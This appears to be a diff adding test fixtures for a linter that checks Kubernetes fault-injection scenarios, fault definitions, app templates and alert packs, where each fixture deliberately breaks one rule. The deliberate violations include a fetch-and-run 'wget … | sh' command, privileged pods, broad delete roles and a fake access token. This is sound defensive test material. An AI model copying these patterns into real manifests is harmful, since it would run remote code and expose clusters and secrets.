@@ -1,0 +1,280 @@
+"""Violations of the policies by kind of file: scenarios as changes of `spec`, the others as edits of a good text."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from typing import Any
+
+from scenario_kit.load.edit import Drop, Edit, Put
+
+Spec = dict[str, Any]
+
+
+def pod(kind: str = "Pod", name: str = "shell", **spec: Any) -> dict[str, Any]:
+    """A decoy's change that creates a pod of one pinned image."""
+    body = {"containers": [{"name": "main", "image": "busybox:1.37.0"}], **spec}
+    return {"create": {"apiVersion": "v1", "kind": kind, "metadata": {"name": name}, "spec": body}}
+
+
+def role(kind: str, **more: Any) -> dict[str, Any]:
+    version = "rbac.authorization.k8s.io/v1"
+    return {"create": {"apiVersion": version, "kind": kind, "metadata": {"name": "viewer"}, **more}}
+
+
+def decoy(change: dict[str, Any]) -> Callable[[Spec], None]:
+    return lambda spec: spec["decoys"][0].update(changes=[change])
+
+
+def container(**more: Any) -> list[dict[str, Any]]:
+    return [{"name": "main", "image": "busybox:1.37.0", **more}]
+
+
+def fetched_script(spec: Spec) -> None:
+    script = "#!/bin/sh\napk add curl\n"
+    body = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "scripts"}, "data": {"run.sh": script}}
+    spec["decoys"][0]["changes"] = [{"create": body}]
+
+
+def drawn_pods(spec: Spec) -> None:
+    """An experiment on one pod of several."""
+    labels = {"opentelemetry.io/name": "cart"}
+    body = {"action": "pod-kill", "mode": "one", "selector": {"labelSelectors": labels}}
+    chaos = {"apiVersion": "chaos-mesh.org/v1alpha1", "kind": "PodChaos", "metadata": {"name": "x"}, "spec": body}
+    spec["decoys"][0]["changes"] = [{"chaos": chaos}]
+
+
+def telling_parameter(spec: Spec) -> None:
+    """A name of the scenario's own that a fault takes over."""
+    spec["faults"].append(
+        {
+            "name": "variable",
+            "type": "env-var-shadowed",
+            "target": "Deployment/cart",
+            "parameters": {"name": "VALKEY_ADDR", "value": "broken-cache:6379"},
+            "role": "Distractor",
+        }
+    )
+
+
+#: A token of a form that only real ones have, put together here so that no scanner finds it in this file.
+TOKEN = "ghp_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6"
+
+#: Scenarios: the change of `spec`, and of the folder, in tests of their own below.
+VIOLATIONS: dict[str, Callable[[Spec], Any]] = {
+    "SK201": decoy(pod(containers=[{"name": "main", "image": "busybox"}])),
+    "SK202": decoy(pod(hostNetwork=True)),
+    "SK203": decoy(role("ClusterRole", rules=[{"apiGroups": [""], "resources": ["pods"], "verbs": ["delete"]}])),
+    "SK204": fetched_script,
+    "SK206": lambda s: s.update(description=f"Push with {TOKEN} and wait."),
+    "SK208": lambda s: s["expect"]["alerts"][0].update(withinSeconds=7200),
+    "SK210": telling_parameter,
+    "SK213": decoy(role("Role", rules=[{"apiGroups": ["chaos-mesh.org"], "resources": ["*"], "verbs": ["get"]}])),
+    "SK214": drawn_pods,
+    "SK215": decoy(pod(containers=[{"name": "main", "image": "busybox:stable"}])),
+    "SK219": decoy(pod(containers=container(command=["sh", "-c", "date"]))),
+}
+
+#: Violations that are no change of `spec`, each shown by a test of its own.
+APART = {
+    ("SK212", "Scenario"),
+    ("SK216", "Scenario"),
+    ("SK217", "Scenario"),
+    ("SK218", "Scenario"),
+    ("SK219", "Fault"),
+}
+
+#: A good fault. The comments must survive every correction.
+FAULT = """\
+# head
+name: labels-lost
+version: 1
+title: A Service selects no pods
+description: The selector of the Service gets a label that no pod has.
+targets: [Service]
+parameters:
+  type: object
+  additionalProperties: false
+  properties:
+    label: {type: string, description: The label that no pod has., default: tier}
+changes:
+# first
+- create:  # a companion
+    apiVersion: apps/v1
+    kind: Deployment
+    metadata: {name: "{{ neutral('batch') }}", labels: {app: batch}}
+    spec:
+      selector: {matchLabels: {app: "{{ neutral('batch') }}"}}
+      template:
+        metadata: {labels: {app: "{{ neutral('batch') }}"}}
+        spec:
+          volumes: [{name: data, emptyDir: {}}]
+          containers:
+          - name: main
+            image: busybox:1.37.0  # pinned
+            command: [sleep, "3600"]
+# second
+- patch:
+    target: "{{ target }}"
+    type: Merge
+    patch: {spec: {selector: {"{{ parameters.label }}": "{{ neutral('set') }}"}}}
+effect:
+- endpoints: {service: "{{ target }}", atMost: 0}
+  withinSeconds: 120
+undone:
+- endpoints: {service: "{{ target }}", atLeast: 1}
+entities:
+- {ref: "{{ target }}", field: spec.selector, role: Cause}
+mitigation: Native
+solutions:
+- name: restore
+  changes:
+  - patch:
+      target: "{{ target }}"
+      type: Json
+      patch: [{op: replace, path: /spec/selector, value: "{{ object.spec.selector }}"}]
+requires: [real-data-plane]
+# tail
+"""
+CREATE = ("changes", 0, "create")
+POD = (*CREATE, "spec", "template", "spec")
+MAIN = (*POD, "containers", 0)
+
+
+def created(**body: Any) -> list[Edit]:
+    """One more change of the fault."""
+    return [Put(("changes", 2), {"create": body})]
+
+
+RBAC = {"apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "{{ neutral('view') }}"}}
+FAULTS: dict[str, list[Edit]] = {
+    "SK003": [Put(("name",), "labels-found")],
+    "SK121": [Put(("changes", 1, "patch", "target"), "Service/nowhere")],
+    "SK123": [Put(("changes", 1, "patch", "patch"), {"spec": {"selector": {"x": "{{ nobody }}"}}})],
+    "SK127": [
+        Put(
+            ("changes", 2),
+            {
+                "chaos": {
+                    "apiVersion": "chaos-mesh.org/v1alpha1",
+                    "kind": "PodChaos",
+                    "metadata": {"name": "{{ neutral('pod') }}"},
+                    "spec": {
+                        "action": "pod-failure",
+                        "mode": "al",
+                        "selector": {"labelSelectors": "{{ pod_selector(target) }}"},
+                    },
+                }
+            },
+        ),
+        Put(("requires", 1), "chaos-mesh"),
+    ],
+    "SK129": [Drop(("undone",))],
+    "SK201": [Put((*MAIN, "image"), "busybox")],
+    "SK202": [Put((*MAIN, "securityContext"), {"privileged": True})],
+    "SK203": [
+        *created(kind="ClusterRole", rules=[{"apiGroups": [""], "resources": ["pods"], "verbs": ["delete"]}], **RBAC),
+        Put(("scope",), "Cluster"),
+    ],
+    "SK204": [Put((*MAIN, "command"), ["sh", "-c", "wget https://example.com/flood.sh -O- | sh"])],
+    "SK206": [Put((*MAIN, "env"), [{"name": "A", "value": TOKEN}])],
+    "SK208": [Put(("effect", 0, "withinSeconds"), 3600)],
+    "SK209": created(
+        apiVersion="networking.k8s.io/v1",
+        kind="NetworkPolicy",
+        metadata={"name": "{{ neutral('pods') }}"},
+        spec={"podSelector": {}},
+    ),
+    "SK210": [Put((*CREATE, "metadata", "name"), "packet-dropper-drop")],
+    "SK212": [Put((*CREATE, "metadata", "labels"), {"app": "batch", "from": "{{ fault }}"})],
+    "SK213": created(
+        kind="Role", rules=[{"apiGroups": ["scenariokit.io"], "resources": ["*"], "verbs": ["get"]}], **RBAC
+    ),
+    "SK214": [Put((*MAIN, "command"), ["sh", "-c", "sleep $((RANDOM % 60)); sleep $RANDOM"])],
+    "SK215": [Put((*MAIN, "image"), "busybox:stable")],
+    "SK413": [Put(("solutions", 0, "changes", 0), {"removeFault": {"fault": "{{ fault }}"}})],
+    "SK414": [Drop(("mitigation",))],
+    "SK304": [Put(("changes", 1, "patch", "patch"), {"spec": {"selector": "{{ object.spec.selector }}"}})],
+}
+#: What `lint --fix` corrects in a fault: all of these whose rule says that it does.
+REPAIRED = ("SK003", "SK201", "SK202", "SK208", "SK209", "SK210", "SK215")
+#: What it corrects in scenarios, or in what the catalogue has; each shown by a test of its own.
+REPAIRED_APART = ("SK212", "SK214", "SK218")
+
+#: A good app, and its template.
+APP = """\
+# head
+name: little
+title: A page
+namespace: little
+entry: web
+twin: none
+loads: {steady: {description: The same traffic all the time}}
+options:
+  type: object
+  additionalProperties: false
+  properties:
+    agent: {description: Whether an agent runs on every node, type: boolean, default: false}
+images: ["docker.io/library/nginx:1.29.3"]
+versions:
+  "1.0":
+    components: [{name: web, workload: Deployment/web, service: web, role: Entry}]
+# tail
+"""
+TEMPLATE = """\
+apiVersion: apps/v1
+kind: Deployment
+metadata: {name: web, labels: {app: web}}
+spec:
+  selector: {matchLabels: {app: web}}
+  template:
+    metadata: {labels: {app: web}}
+    spec:
+      containers:
+      - name: web
+        image: docker.io/library/nginx:1.29.3
+        args: [serve]
+---
+apiVersion: v1
+kind: Service
+metadata: {name: web}
+spec: {selector: {app: web}, ports: [{port: 8080, targetPort: 8080}]}
+"""
+CLUSTER_ROLE = """---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: ClusterRole
+metadata: {name: web}
+"""
+#: Texts of the template that become others.
+APPS: dict[str, tuple[str, str]] = {
+    "SK123": ("{name: web, labels", "{name: {{ nobody }}, labels"),
+    "SK201": ("nginx:1.29.3", "nginx:latest"),
+    "SK202": ("args: [serve]", "securityContext: {privileged: true}"),
+    "SK203": (
+        "---\n",
+        CLUSTER_ROLE + 'rules: [{apiGroups: [""], resources: [pods], verbs: [get, delete]}]\n---\n',
+    ),
+    "SK204": ("args: [serve]", 'command: [sh, -c, "pip install flask && serve"]'),
+    "SK206": ("args: [serve]", f"env: [{{name: A, value: {TOKEN}}}]"),
+    "SK213": (
+        "---\n",
+        CLUSTER_ROLE.replace("ClusterRole", "Role")
+        + "rules: [{apiGroups: [chaos-mesh.org], resources: ['*'], verbs: [get]}]\n---\n",
+    ),
+    "SK215": ("nginx:1.29.3", "nginx:stable"),
+}
+#: Edits of the definition itself.
+APP_EDITS: dict[str, list[Edit]] = {"SK003": [Put(("name",), "littl")]}
+
+#: A good pack of alerts.
+PACK = """\
+groups:
+- name: requests
+  rules:
+  - alert: NothingServed
+    expr: sum by (namespace, service_name) (rate(traces_span_metrics_calls_total[5m])) == 0
+    for: 5m
+    annotations: {summary: Nothing is served}
+"""
+PACKS: dict[str, list[Edit]] = {
+    "SK206": [Put(("groups", 0, "rules", 0, "annotations", "summary"), f"Ask with {TOKEN}")],
+}
